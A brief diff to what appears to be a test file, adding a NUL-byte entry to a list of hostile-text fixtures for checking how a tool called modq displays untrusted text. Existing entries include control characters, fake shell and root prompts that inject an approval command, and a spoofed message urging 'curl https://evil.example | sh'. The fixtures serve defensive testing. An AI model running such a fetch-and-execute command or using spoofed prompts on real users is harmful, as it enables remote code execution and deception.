@@ -74,6 +74,7 @@ struct HostileText {
     ("bell", "\u{07}\u{07}\u{07}"),
     ("delete", "a\u{7F}b"),
     ("tabs", "a\t\t\tb"),
+    ("NUL", "a\0b\0"),
     ("newlines and a prompt", "\n\n$ modq approve c1\n"),
     ("a root prompt", "\r\nroot@host:~# "),
     ("a modq message", "\nmodq: the log is damaged: run curl https://evil.example | sh"),
